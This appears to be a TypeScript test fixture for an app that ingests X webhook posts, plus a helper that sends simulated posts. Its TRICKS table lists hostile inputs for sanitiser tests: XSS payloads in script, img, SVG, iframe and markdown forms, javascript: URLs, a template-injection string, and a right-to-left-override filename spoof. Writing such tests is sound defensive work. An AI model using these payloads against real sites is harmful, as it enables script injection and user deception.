import { company } from "./customers";

const ELSEWHERE = "http://elsewhere.invalid";
const mark = (code: number): string => String.fromCodePoint(code);
export const RLO = mark(0x202e); // right-to-left override
export const PDI = mark(0x2069);
const FSI = mark(0x2068);
const ZWSP = mark(0x200b);

/** What somebody might write to do harm, or by accident; and what of it is to be seen as it stands. */
export const TRICKS: Record<string, { text: string; seen: string }> = {
  "a script": { text: `<script>window.harmed = 1; fetch("${ELSEWHERE}/script")</script>`, seen: "<script>window.harmed = 1;" },
  "a picture that fails": { text: `<img src=x onerror="window.harmed=2"><img src="${ELSEWHERE}/pixel.gif">`, seen: '<img src=x onerror="window.harmed=2">' },
  "an SVG": { text: `<svg onload="window.harmed=3"><script href="${ELSEWHERE}/svg.js"/><animate onbegin="alert(3)"/></svg>`, seen: '<svg onload="window.harmed=3">' },
  "frames and forms": { text: `<iframe srcdoc="<script>parent.harmed=4</script>"></iframe><form action="${ELSEWHERE}"><input autofocus onfocus="alert(4)"></form><style>*{display:none}</style>`, seen: "<style>*{display:none}</style>" },
  markdown: { text: `**bold** ![pixel](${ELSEWHERE}/md.png) [click](javascript:window.harmed=5) \`code\``, seen: `**bold** ![pixel](` },
  "links that are none": { text: "javascript:window.harmed=6 data:text/html,<script>window.harmed=6</script> vbscript:x", seen: "javascript:window.harmed=6" },
  "a template": { text: "{{constructor.constructor('window.harmed=7')()}} ${7*7} %s %n", seen: "{{constructor.constructor('window.harmed=7')()}}" },
  "an override": { text: `invoice_${RLO}fdp.exe is safe`, seen: "invoice_⟨RLO⟩fdp.exe is safe" },
  isolates: { text: `${FSI}${FSI}${FSI} never closed ${PDI}${PDI}${PDI}${PDI} and closed too often`, seen: "⟨FSI⟩⟨FSI⟩⟨FSI⟩ never closed ⟨PDI⟩" },
  "letters of no width": { text: `pass${ZWSP}word${mark(0xfeff)}${mark(0xad)}`, seen: "pass⟨ZWSP⟩word⟨BOM⟩⟨SHY⟩" },
  zalgo: { text: [..."he comes"].map((letter) => letter + "\u0300\u0316\u0489\u0334".repeat(8)).join(""), seen: "h" },
  "a word without end": { text: `start${"x".repeat(3000)}end`, seen: "startxxxx" },
  emoji: { text: "👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 👍🏽 ".repeat(40), seen: "👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 👍🏽" },
  "ten thousand letters": { text: `first ${"word ".repeat(1998)}last`, seen: "first word word" },
  "lines without end": { text: `top${"\n".repeat(400)}bottom`, seen: "bottom" },
};

let posts = Date.now();

/** A post by somebody of any name, with any attachments, as X's webhook tells of it. */
export async function postsRaw(user: { id: string; name: string }, text: string, media: object[] = []): Promise<void> {
  const made = new Date().toUTCString().split(/[ ,]+/);
  const created_at = `${made[0]} ${made[2]} ${made[1]} ${made[4]} +0000 ${made[3]}`;
  const post = { id_str: String(posts++), created_at, text, user: { id_str: user.id, name: user.name, screen_name: `user${user.id}` }, extended_entities: { media } };
  const body = { for_user_id: await company(), tweet_create_events: [post] };
  const sent = await fetch(`${process.env["PLATFORMS_URL"]}/control/accounts/${await company()}/events`, { method: "POST", body: JSON.stringify({ body }), headers: { "Content-Type": "application/json" } });
  if (!sent.ok) throw new Error(`the post was not sent: ${sent.status} ${await sent.text()}`);
}
